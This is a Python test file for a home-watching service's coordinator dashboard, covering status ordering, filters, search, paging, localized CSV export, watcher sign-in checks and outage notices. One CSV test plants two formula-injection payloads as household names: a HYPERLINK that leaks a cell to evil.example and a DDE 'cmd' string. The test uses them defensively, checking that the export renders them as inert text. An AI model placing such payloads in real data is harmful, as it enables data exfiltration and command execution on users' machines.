# SPDX-License-Identifier: MIT
"""The coordinator's overview for many homes: one status per home in the order a
coordinator acts on them, counts that filter, a search, pages; the weekly list of watchers who
never signed in or never confirmed their mail; the CSV localized and formula-safe.

On the sample pilot (sim/sample_pilot.py), SQLite and PostgreSQL (tests/test_dashboard.py's
fixtures), through the real app in-process.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from mimamori import households as hh
from mimamori import listening, status
from mimamori.clock import HOUR_MS, to_s
from mimamori.web import views
from tests.test_dashboard import NOW_MS, Site, csrf, report_rows, site, template_db  # noqa: F401


def _homes(page: str) -> list[tuple[str, str]]:
    """(household, state) of each row of an overview page, in order."""
    return re.findall(r'data-household="([^"]+)" data-state="([^"]+)"', page)


def _count(page: str, state: str) -> int:
    m = re.search(rf'data-count="{state}"[^>]*>.*?<strong>(\d+)</strong>', page, re.DOTALL)
    assert m, state
    return int(m.group(1))


def test_one_status_per_home_most_urgent_first() -> None:
    assert status.state_of(["open", "claimed"], True, True, True) == "unanswered"
    assert status.state_of(["claimed"], True, True, True) == "checking"
    assert status.state_of([], True, False, True) == "late"  # a silent bulb while away
    assert status.state_of([], False, True, False) == "late"
    assert status.state_of([], False, False, True) == "paused"
    assert status.state_of([], False, False, False) == "well"
    assert status.late_flag(3, 10) and not status.late_flag(2, 10) and not status.late_flag(0, 0)


def test_overview_puts_the_unanswered_alert_first_and_a_late_bulb_never_shows_well(
        site: Site) -> None:  # noqa: F811 - the fixture
    coord = site.sign_in(None)
    page = coord.get("/coordinator").text
    homes = _homes(page)
    assert homes[0] == ("sato", "unanswered")
    # suzuki: its bulb reports late (16 of 50 in the week) and has a poor delivery notice;
    # yamada: its bulb was never heard. Each shows one status, and it is not "well"
    assert dict(homes) == {"sato": "unanswered", "suzuki": "late", "yamada": "late",
                           "tanaka": "paused"}
    suzuki = page[page.index('data-household="suzuki"'):]
    suzuki = suzuki[:suzuki.index("</li>")]
    assert suzuki.count("data-status=") == 1 and 'data-status="well"' not in suzuki
    assert "▲" in suzuki and "-100 dBm" in suzuki  # often late, and the weak signal
    assert [_count(page, s) for s in ("all", *status.STATES)] == [4, 1, 0, 2, 1, 0]


def test_a_count_filters_and_a_claim_moves_the_home_at_once(
        site: Site) -> None:  # noqa: F811 - the fixture
    coord = site.sign_in(None)
    page = coord.get("/coordinator").text
    href = re.search(r'data-count="late" href="([^"]+)"', page).group(1)
    assert [h for h, _ in _homes(coord.get(href.replace("&amp;", "&")).text)] == [
        "suzuki", "yamada"]
    aiko = site.sign_in("Aiko")
    r = aiko.post(f"/h/sato/alerts/{site.alert}/claim", data={"csrf": csrf(aiko, "/h/sato")},
                  follow_redirects=False)
    assert r.status_code == 303
    page = coord.get("/coordinator", params={"state": "checking"}).text
    assert _homes(page) == [("sato", "checking")]
    assert "Aiko" in page  # who is going
    assert coord.get("/coordinator", params={"state": "unanswered"}).text.count(
        "data-household=") == 0


def test_search_finds_homes_by_id_name_and_watcher_and_escapes_wildcards(
        site: Site) -> None:  # noqa: F811 - the fixture
    coord = site.sign_in(None)

    def found(q: str) -> list[str]:
        return sorted(h for h, _ in _homes(coord.get("/coordinator", params={"q": q}).text))

    assert found("tanaka") == ["tanaka"]
    assert found("鈴木") == ["suzuki"]  # a fragment of the name (where the address goes)
    assert found("aiko") == ["sato", "suzuki"]  # a watcher's name, any case
    assert found("%") == [] and found("_") == []  # wildcards are plain characters
    page = coord.get("/coordinator", params={"q": "zzz-nobody"}).text
    assert 'id="no-match"' in page and _count(page, "all") == 0


def test_pages_of_twenty_keep_the_filter_and_search(
        site: Site) -> None:  # noqa: F811 - the fixture
    with site.db.tx() as c:
        for i in range(45):
            hh.add_household(c, NOW_MS, f"extra-{i:02d}", name=f"Kita {i} (Koromogawa 1-{i})")
    coord = site.sign_in(None)
    first = coord.get("/coordinator").text
    assert len(_homes(first)) == 20 and _homes(first)[0][0] == "sato"
    assert _count(first, "well") == 45
    nxt = re.search(r'rel="next" href="([^"]+)"', first).group(1).replace("&amp;", "&")
    assert nxt == "/coordinator?page=2"
    third = coord.get("/coordinator", params={"state": "well", "q": "koromogawa",
                                              "page": 3}).text
    assert [h for h, _ in _homes(third)] == [f"extra-{i:02d}" for i in range(40, 45)]
    prev = re.search(r'rel="prev" href="([^"]+)"', third).group(1).replace("&amp;", "&")
    assert prev == "/coordinator?state=well&q=koromogawa&page=2"
    assert 'rel="next"' not in third
    for bad in ("0", "-3", "x", "99999999999"):  # never an error page
        assert coord.get("/coordinator", params={"page": bad, "state": "nope"}
                         ).status_code == 200


def test_csv_headers_follow_the_reader_and_a_formula_name_stays_text(
        site: Site) -> None:  # noqa: F811 - the fixture
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with site.db.tx() as c:
        c.execute("UPDATE households SET name = ? WHERE id = 'tanaka'", (hostile,))
        c.execute("UPDATE households SET name = ? WHERE id = 'yamada'", ("\t+cmd|' /C calc'!A0",))
    coord = site.sign_in(None)
    ja = coord.get("/coordinator/report.csv").content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(ja)))
    assert header[:3] == ["世帯番号", "名前", "いまの様子"] and "助けが必要だった" in header
    coord.get("/lang", params={"to": "en", "next": "/coordinator"})
    r = coord.get("/coordinator/report.csv")
    assert next(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))[:2] == [
        "household", "name"]
    rows = report_rows(r.content)
    assert rows["tanaka"]["name"] == "'" + hostile  # shown as text, never run
    assert rows["yamada"]["name"].startswith("'\t")
    for row in rows.values():
        assert not any(v.startswith(views.FORMULA_START) for k, v in row.items()
                       if k not in ("signal_dbm",))
    assert rows["suzuki"]["status"] == "Bulb reports late or not at all"
    assert (rows["suzuki"]["signal_dbm"], rows["suzuki"]["signal"]) == ("-100", "very weak")
    assert (rows["suzuki"]["late_7d"], rows["suzuki"]["visits_7d"]) == ("16", "50")
    # outcomes: suzuki's past alert was a false alarm; the split adds up over households
    assert (rows["suzuki"]["needed_help"], rows["suzuki"]["fine"],
            rows["suzuki"]["false_alerts"]) == ("0", "0", "1")
    for k in ("needed_help", "fine", "false_alerts"):
        assert int(rows["total"][k]) == sum(int(x[k]) for h, x in rows.items() if h != "total")


def test_weekly_check_lists_watchers_until_they_sign_in_by_mail(
        site: Site) -> None:  # noqa: F811 - the fixture
    coord = site.sign_in(None)

    def listed() -> set[str]:
        page = coord.get("/coordinator/watchers").text
        return set(re.findall(r'data-watcher="([^"]+)"', page))

    def checks(wid: str) -> tuple[str, str]:
        """(signed-in, mail) parts of the watcher's line."""
        page = coord.get("/coordinator/watchers").text
        row = page[page.index(f'data-watcher="{wid}"'):]
        row = row[:row.index("</li>")]
        i = row.index('data-check="mail"')
        return row[row.index('data-check="signed-in"'):i], row[i:]

    aiko = {site.w[("sato", "Aiko")], site.w[("suzuki", "Aiko")]}
    before = listed()
    assert aiko <= before
    assert all("▲" in part for part in checks(site.w[("sato", "Aiko")]))
    site.sign_in("Aiko")  # a link the coordinator handed over: signed in, mail not shown to work
    signed, mail = checks(site.w[("suzuki", "Aiko")])  # her other household: the same person
    assert "▲" not in signed and "▲" in mail
    # she asks for a link on the sign-in page: it goes by e-mail, and she uses it
    cl = site.client()
    with site.db.read() as c:
        email = hh.watcher(c, site.w[("sato", "Aiko")]).email
    cl.post("/signin", data={"csrf": csrf(cl), "email": email})
    with site.db.read() as c:
        (payload,) = c.one("SELECT payload FROM outbox WHERE kind = 'signin' AND "
                           "channel = 'email' ORDER BY created_at DESC LIMIT 1")
    token = re.search(r"/in/([A-Za-z0-9_-]+)", payload).group(1)
    r = cl.post(f"/in/{token}", data={"csrf": csrf(cl, f"/in/{token}")},
                follow_redirects=False)
    assert r.status_code == 303
    after = listed()
    assert not aiko & after  # both of her households: one person, one address
    assert after == before - aiko
    with site.db.read() as c:
        assert set(views.mail_confirmed_at(c, [hh.watcher(c, w) for w in aiko])) == aiko


def test_status_rows_of_an_older_database_take_the_five_states(tmp_path: Path) -> None:
    from mimamori.storage import Database, migrate

    db = Database(tmp_path / "old.db")
    migrate(db, "people", hh.SCHEMA)  # as before the overview's own columns existed
    with db.tx() as c:
        for hid, state, rank in (("a", "alert", 0), ("s", "silent", 1), ("p", "paused", 2),
                                 ("w", "well", 3)):
            c.execute("INSERT INTO households (id, name, tz, settings, created_at) "
                      "VALUES (?, ?, 'Asia/Tokyo', '{}', 0)", (hid, hid))
            c.execute("INSERT INTO household_status (household, state, rank, updated_ms) "
                      "VALUES (?, ?, ?, 0)", (hid, state, rank))
    hh.open_people(db)
    with db.read() as c:
        rows, counts = status.page(c, 0, 10)
    assert [(r.household, r.state) for r in rows] == [
        ("a", "unanswered"), ("s", "late"), ("p", "paused"), ("w", "well")]
    assert counts == {"unanswered": 1, "checking": 0, "late": 1, "paused": 1, "well": 1}
    db.close()


def test_weekly_check_takes_the_invitations_i_received_this_as_mail_confirmed(
        site: Site) -> None:  # noqa: F811 - the fixture
    from mimamori import notify

    coord = site.sign_in(None)
    nao = site.w[("sato", "Nao")]

    def mail_check() -> str:
        page = coord.get("/coordinator/watchers").text
        row = page[page.index(f'data-watcher="{nao}"'):]
        row = row[:row.index("</li>")]
        return row[row.index('data-check="mail"'):]

    assert "▲" in mail_check()
    with site.db.tx() as c:
        notify.invite(c, NOW_MS, hh.household(c, "sato"), hh.watcher(c, nao), "http://x.example")
    msg = [o for o in notify.outbox(site.db) if o.kind == "invite" and o.watcher == nao][-1]
    url = re.search(r"http://x\.example(/a/\S+)", msg.body).group(1)
    assert site.client().post(url, data={"do": "received"}).status_code == 200
    assert "▲" not in mail_check()
    with site.db.read() as c:
        assert views.mail_confirmed_at(c, [hh.watcher(c, nao)]) == {nao: NOW_MS}


def _outages(page: str) -> str:
    if 'id="outages"' not in page:
        return ""
    part = page[page.index('id="outages"'):]
    return part[part.index(">") + 1:part.index("</section>")]


def test_the_servers_own_outage_is_told_on_the_overview_for_a_week(site: Site) -> None:  # noqa: F811
    coord = site.sign_in(None)
    assert _outages(coord.get("/coordinator").text) == ""
    with site.db.read() as c:
        last = dict(c.all("SELECT household, last_on_ms FROM household_status "
                          "WHERE state <> 'paused' AND last_on_ms IS NOT NULL"))
    quiet = min(last, key=last.get)  # the home silent longest: its silence began before...
    start = last[quiet] + HOUR_MS  # ... the outage, which began an hour after it
    listening.mark(site.db, start)
    listening.mark(site.db, start + 30 * HOUR_MS)  # down for 30 h
    ja = _outages(coord.get("/coordinator").text)  # the coordinator reads Japanese first
    assert "受信していませんでした" in ja and "電話" in ja
    named = re.findall(r'data-unheard="([^"]+)"', ja)  # whom to call: not heard since before
    assert quiet in named and set(named) == {h for h, t in last.items() if t < start}
    assert len(named) < len(last)  # the homes heard during the outage's day are not named
    assert not re.search(r"[A-Za-z]{3,}", re.sub(r"<[^>]+>", "", ja)), ja
    coord.get("/lang", params={"to": "en", "next": "/coordinator"})
    en = _outages(coord.get("/coordinator").text)
    assert en.count("data-outage=") == 1 and "The server was not listening from" in en
    assert "no family was alerted" in en
    site.now = to_s(start + 30 * HOUR_MS + 7 * 24 * HOUR_MS) + 60  # a week on: gone
    assert _outages(coord.get("/coordinator").text) == ""


def test_a_fleet_silence_going_on_is_told_as_going_on(site: Site) -> None:  # noqa: F811
    coord = site.sign_in(None)
    site.now += 24 * 3600  # a day on, and no bulb heard meanwhile
    now = int(site.now * 1000)
    with site.db.tx() as c:  # as listening.hear leaves a fleet silence it decided (the
        # deciding is tests/test_listening.py's): its span open to now, its start kept
        (last,) = c.one("SELECT MAX(last_heard_at) FROM devices")
        c.execute("INSERT INTO deaf_spans (start_ms, end_ms) VALUES (?, ?)", (last, now))
        c.execute("INSERT INTO fleet_rhythm (id, at_ms, rhythm, silent_from) VALUES "
                  "(1, ?, ?, ?)", (now, listening.Rhythm().to_json(), last))
    ja = _outages(coord.get("/coordinator").text)
    assert "どの電球の知らせも届いていません" in ja and "data-ongoing" in ja
    assert not re.search(r"[A-Za-z]{3,}", re.sub(r"<[^>]+>", "", ja)), ja
    coord.get("/lang", params={"to": "en", "next": "/coordinator"})
    en = _outages(coord.get("/coordinator").text)
    assert "data-ongoing" in en and "No bulb heard since" in en and "call the homes" in en
    assert "was not listening" not in en
    named = re.findall(r'data-unheard="([^"]+)"', en)  # every home: none heard since it began
    with site.db.read() as c:
        homes = {h for (h,) in c.all("SELECT household FROM household_status WHERE state <> "
                                     "'paused' AND last_on_ms IS NOT NULL")}
    assert set(named) == homes
